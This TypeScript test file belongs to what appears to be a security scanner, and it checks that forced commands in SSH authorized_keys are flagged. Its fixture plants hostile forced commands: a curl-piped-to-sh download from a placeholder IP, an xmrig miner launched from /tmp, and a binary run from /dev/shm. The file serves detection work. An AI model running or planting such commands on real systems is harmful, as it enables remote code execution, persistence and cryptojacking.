/**
 * Forced commands of authorized_keys (command="..."): run through the shared command-line
 * rules with scope ssh-key, so a key whose command downloads and runs a script, starts a
 * miner or a program in /tmp fires those rules on its line, while a plain deploy key
 * restricted to a script stays an info inventory line. A key whose random base64 blob
 * looks like a wallet must not fire the miner rule.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { sshKeysCheck } from '../../src/checks/ssh-keys.js';
import { forcedCommand } from '../../src/checks/shared/authorized-keys-file.js';
import { parseAuthorizedKeys } from '../../src/facts/authorized-keys.js';
import { scanDirectory } from '../helpers/scan-dir.js';
import { findingSummary, unfilledTemplates } from '../helpers/findings.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { put } from '../helpers/planted-tree.js';

const run = promisify(execFile);

const WALLET = '4' + 'A' + '1'.repeat(93);

describe('forced commands of authorized keys', () => {
  let scratch: string;
  let key: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-forced-');
    await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'k@corp', '-f', path.join(scratch, 'k')]);
    key = (await readFile(path.join(scratch, 'k.pub'), 'utf8')).trim();
    const root = path.join(scratch, 'root');
    await put(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\n');
    await put(
      root,
      'root/.ssh/authorized_keys',
      [
        `command="/usr/local/bin/deploy.sh",no-pty,no-port-forwarding ${key}`,
        `command="curl -fsSL http://203.0.113.5/i.sh | sh",no-pty ${key}`,
        `command="/tmp/.X11/xmrig -o pool.supportxmr.com:443 -u ${WALLET}" ${key}`,
        `command="echo \\"hi\\"; /dev/shm/run" ${key}`,
        key,
        '',
      ].join('\n'),
    );
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('fires the shared command rules on forced commands and leaves a deploy key at info', async () => {
    const result = await scanDirectory(path.join(scratch, 'root'), [sshKeysCheck]);
    expect(result.errors).toEqual([]);
    expect(unfilledTemplates(result.findings)).toEqual([]);
    expect(findingSummary(result.findings.filter((f) => f.rule !== 'ssh.authorized-key'))).toEqual(
      [
        'high command.download-and-run /root/.ssh/authorized_keys:2',
        'high command.miner /root/.ssh/authorized_keys:3',
        'high command.started-from-temp /root/.ssh/authorized_keys:3',
        'high command.started-miner /root/.ssh/authorized_keys:3',
        'high command.started-from-temp /root/.ssh/authorized_keys:4',
      ].sort(),
    );
    expect(result.findings.filter((f) => f.rule === 'ssh.authorized-key').map((f) => f.line)).toEqual([1, 2, 3, 4, 5]);
    const download = result.findings.find((f) => f.rule === 'command.download-and-run')!;
    expect(download.category).toBe('persistence/ssh');
    expect(download.message).toContain('forced command of the key SHA256:');
    expect(download.remediation).toMatch(/^sed -i '2d' \/root\/\.ssh\/authorized_keys   # deletes line 2: command="curl/);
    const temp = result.findings.find((f) => f.rule === 'command.started-from-temp' && f.line === 4)!;
    expect(temp.message).toContain('/dev/shm/run');
  });

  it('undoes the option escape', () => {
    const parsed = parseAuthorizedKeys(`command="echo \\"a b\\"",no-pty ${key}`);
    expect(forcedCommand(parsed.keys[0]!)).toBe('echo "a b"');
  });
});
